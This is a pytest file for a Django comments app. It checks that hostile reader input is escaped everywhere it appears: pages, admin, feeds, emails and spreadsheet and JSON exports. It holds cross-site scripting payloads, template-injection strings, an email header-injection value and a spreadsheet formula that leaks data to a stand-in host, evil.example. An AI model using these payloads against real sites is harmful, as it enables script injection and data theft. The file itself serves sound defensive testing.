"""Cross-site scripting: hostile text a reader types is stored exactly as typed and shown as text
wherever it appears: on the article, in threads, in the moderators' admin, in emails, feeds and
downloads.
"""

import csv
import io
import json
import xml.etree.ElementTree as ET

import pytest
from django.contrib.auth.models import User
from django.urls import reverse

from comments.models import Comment, Report, Strategy
from tests.actions import post_reply
from tests.factories import form_stamp
from tests.pages import visible_text, what_would_run

pytestmark = pytest.mark.django_db


NAME = '"><img src=x onerror=alert(1)><script>alert(1)</script>'
EMAIL = "x'/onmouseover='alert`1`'@example.com"
BODY_LINES = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the full report")',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "'><body onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href=" jav&#x09;ascript:alert(1)">tabbed</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    '[a link](javascript:alert(1)) and ![an image](x" onerror="alert(1))',
    "[ref][1]\n\n[1]: javascript:alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "{{ request.META }} {% debug %} ${7*7}",
]
BODY = "\n\n".join(BODY_LINES)
REPORT_TEXT = "<script>alert('report')</script><img src=x onerror=alert(1)>"


@pytest.fixture
def hostile(client, article, moderator, django_capture_on_commit_callbacks):
    """A proposal full of hostile text, posted through the form, published, and reported."""
    strategy = Strategy.objects.first()
    with django_capture_on_commit_callbacks(execute=True):
        response = post_reply(
            client,
            article,
            {
                "author_name": NAME,
                "author_email": EMAIL,
                "body": BODY,
                "strategies": [strategy.pk],
                "notify_replies": "on",
                "stamp": form_stamp(),
            },
        )
    assert response.status_code == 302, response.context["form"].errors
    comment = Comment.objects.get()
    comment.approve(by=moderator)
    Report.objects.create(
        comment=comment, reason=Report.Reason.OTHER, text=REPORT_TEXT, reader_key="r" * 64
    )
    return comment


def test_hostile_text_is_stored_exactly_as_typed(hostile):
    stored = Comment.objects.get()

    assert (stored.author_name, stored.author_email, stored.body) == (NAME, EMAIL, BODY)


def assert_shown_as_text(html: str, *texts: str) -> None:
    assert what_would_run(html) == []
    shown = visible_text(html)
    for text in texts:
        for line in text.split("\n\n"):
            assert line in shown, line


def test_the_article_page_shows_hostile_text_as_text(client, article, hostile):
    client.cookies.clear()

    page = client.get(article.get_absolute_url())

    assert_shown_as_text(page.content.decode(), NAME, BODY)


def test_the_thread_page_shows_hostile_text_as_text(client, hostile):
    client.cookies.clear()

    page = client.get(reverse("comments:thread", kwargs={"pk": hostile.pk}))

    assert_shown_as_text(page.content.decode(), NAME, BODY)


def test_the_reply_page_shows_hostile_text_as_text(client, hostile):
    page = client.get(reverse("comments:reply", kwargs={"pk": hostile.pk}))

    assert_shown_as_text(page.content.decode(), NAME, BODY)


def test_a_reply_sent_in_place_shows_hostile_text_as_text(client, article, hostile):
    response = post_reply(
        client,
        article,
        {
            "author_name": NAME,
            "author_email": "luis@example.com",
            "body": BODY,
            "parent": hostile.pk,
            "stamp": form_stamp(),
        },
        headers={"HX-Request": "true"},
    )

    assert_shown_as_text(response.content.decode(), NAME, BODY)


def test_the_strategies_board_shows_hostile_text_as_text(client, article, hostile):
    page = client.get(reverse("board:board", kwargs={"slug": article.slug}))

    assert_shown_as_text(page.content.decode(), NAME)


def test_a_form_sent_back_with_errors_shows_hostile_text_as_text(client, article):
    response = post_reply(
        client,
        article,
        {
            "author_name": NAME,
            "author_email": "not an address <script>alert(1)</script>",
            "body": BODY,
            "language": "<script>alert(1)</script>",
            "stamp": form_stamp(),
        },
    )

    html = response.content.decode()
    assert what_would_run(html) == []
    assert "</textarea><script>" not in html


def test_a_closed_discussion_gives_back_hostile_text_as_text(client, article):
    article.discussion_open = False
    article.save()

    response = post_reply(
        client,
        article,
        {
            "author_name": "Ana",
            "author_email": "ana@example.com",
            "body": BODY,
            "stamp": form_stamp(),
        },
    )

    assert_shown_as_text(response.content.decode(), BODY)


def test_the_rate_limit_page_gives_back_hostile_text_as_text(client, article, settings):
    settings.RATE_LIMITS = {"post": {"ip": (1, 600)}}
    data = {
        "author_name": "Ana",
        "author_email": "ana@example.com",
        "body": BODY,
        "stamp": form_stamp(),
    }
    post_reply(client, article, data)

    response = post_reply(client, article, {**data, "body": BODY + "\n\nAgain."})

    assert response.status_code == 429
    assert what_would_run(response.content.decode()) == []


def test_the_edit_page_shows_hostile_text_as_text(client, article, hostile):
    page = client.get(reverse("comments:edit", kwargs={"pk": hostile.pk}))

    assert page.status_code == 200
    assert_shown_as_text(page.content.decode(), BODY)


def test_the_moderation_queue_shows_hostile_text_as_text(moderator_client, hostile):
    page = moderator_client.get(reverse("admin:comments_comment_changelist"))

    assert_shown_as_text(page.content.decode(), NAME, EMAIL)


def test_the_admin_page_of_a_comment_shows_hostile_text_as_text(moderator_client, hostile):
    page = moderator_client.get(reverse("admin:comments_comment_change", args=[hostile.pk]))

    assert_shown_as_text(page.content.decode(), NAME, EMAIL, BODY, REPORT_TEXT)


def test_the_admin_list_of_reports_shows_hostile_text_as_text(superuser_client, hostile):
    page = superuser_client.get(reverse("admin:comments_report_changelist"))

    assert page.status_code == 200
    assert_shown_as_text(page.content.decode(), REPORT_TEXT)


def test_the_atom_feed_gives_hostile_text_as_text(client, article, hostile):
    feed = client.get(reverse("board:feed", kwargs={"slug": article.slug}))

    atom = "{http://www.w3.org/2005/Atom}"
    entry = ET.fromstring(feed.content).find(f"{atom}entry")  # noqa: S314 - our own feed
    title, summary = entry.find(f"{atom}title"), entry.find(f"{atom}summary")
    assert title.get("type", "text") == "text"
    assert entry.find(f"{atom}author/{atom}name").text == NAME
    # Feed readers draw the summary as HTML: it must be the escaped text.
    assert summary.get("type") == "html"
    assert_shown_as_text(summary.text, BODY)


def test_emails_about_hostile_text_are_plain_text_without_added_headers(
    client, article, hostile, mailoutbox, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        post_reply(
            client,
            article,
            {
                "author_name": "Luis\r\nBcc: everyone@example.org",
                "author_email": "luis@example.com",
                "body": BODY,
                "parent": hostile.pk,
                "stamp": form_stamp(),
            },
        )
        Comment.objects.get(author_email="luis@example.com").approve(
            by=User.objects.get(username="moderator")
        )

    assert len(mailoutbox) >= 3  # moderators told twice, the hostile author told of a reply
    for message in mailoutbox:
        assert message.content_subtype == "plain"
        assert not getattr(message, "alternatives", [])
        assert "\n" not in message.subject and "\r" not in message.subject
        assert not message.bcc and not message.cc
        assert "Bcc" not in message.message()


def test_the_proposals_spreadsheet_keeps_hostile_text_from_running_as_a_formula(
    client, article, hostile
):
    download = client.get(
        reverse("board:proposals-download", kwargs={"slug": article.slug, "extension": "csv"})
    )

    rows = list(
        csv.DictReader(io.StringIO(b"".join(download.streaming_content).decode("utf-8-sig")))
    )
    assert rows[0]["text"] == "'" + BODY
    assert download["Content-Disposition"].startswith("attachment;")


def test_the_proposals_json_gives_hostile_text_as_data_never_as_a_page(client, article, hostile):
    download = client.get(
        reverse("board:proposals-download", kwargs={"slug": article.slug, "extension": "json"})
    )

    assert download["Content-Type"] == "application/json"
    assert download["X-Content-Type-Options"] == "nosniff"
    assert json.loads(download.content)["proposals"][0]["text"] == BODY
